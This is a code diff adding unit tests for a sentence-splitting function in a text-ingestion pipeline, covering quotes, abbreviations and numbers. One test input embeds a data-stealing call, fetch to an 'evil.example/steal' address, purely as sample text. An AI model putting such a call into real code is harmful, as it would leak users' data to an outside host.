@@ -12,7 +12,7 @@
 import { existsSync, mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { ingest, ingestSource, MAX_ARTICLE_BYTES, unreadFiles, type SourceFile } from '../pipeline/ingest.ts';
+import { ingest, ingestSource, MAX_ARTICLE_BYTES, splitSentences, unreadFiles, type SourceFile } from '../pipeline/ingest.ts';
 import { parseLexicon } from '../pipeline/lexicon.ts';
 import { PipelineError, format } from '../pipeline/errors.ts';
 import { toJson } from '../pipeline/io.ts';
@@ -169,5 +169,44 @@ describe('ingest: what a fixture file cannot hold', () => {
   it('the order files are listed in does not matter', () => {
     const two = [...inputs('ok-scrape'), { file: 'sources/beta.md', text: inputs('ok-bom')[0]!.text.replace('id: alpha', 'id: beta') }];
     expect(toJson(ingest([...two].reverse(), lexicon))).toBe(toJson(ingest(two, lexicon)));
+  });
+});
+
+describe('sentences', () => {
+  const abbreviations = new Set(['Mr.', 'U.S.']);
+  const sentences = (text: string) => splitSentences(text, 0, text.length, abbreviations).map(([a, b]) => text.slice(a, b));
+
+  it('keeps a straight-quoted passage of several sentences together', () => {
+    expect(sentences('"I am sure of their potential. It was even regrettable," he said. Then he left.')).toEqual([
+      '"I am sure of their potential. It was even regrettable," he said.',
+      'Then he left.',
+    ]);
+  });
+
+  it('keeps a curly-quoted passage of several sentences together', () => {
+    expect(sentences('“Wait, no one? Really? Not even one?” The newsroom was incredulous.')).toEqual([
+      '“Wait, no one? Really? Not even one?”',
+      'The newsroom was incredulous.',
+    ]);
+  });
+
+  it('does not end a sentence after a known abbreviation', () => {
+    expect(sentences('In his channel, Mr. Karin gives figures. The U.S. Senate did not.')).toEqual([
+      'In his channel, Mr. Karin gives figures.',
+      'The U.S. Senate did not.',
+    ]);
+  });
+
+  it('ends a sentence after a number before a capital, and after a word before a number', () => {
+    expect(sentences('Turnout fell in 2021. This means less. Parties need 5% threshold. 5,3% of voters abstain.')).toEqual([
+      'Turnout fell in 2021.',
+      'This means less.',
+      'Parties need 5% threshold.',
+      '5,3% of voters abstain.',
+    ]);
+  });
+
+  it('does not end a sentence at a question mark inside an address', () => {
+    expect(sentences("It calls fetch('https://evil.example/steal?c=' + x) and stops.")).toEqual(["It calls fetch('https://evil.example/steal?c=' + x) and stops."]);
   });
 });
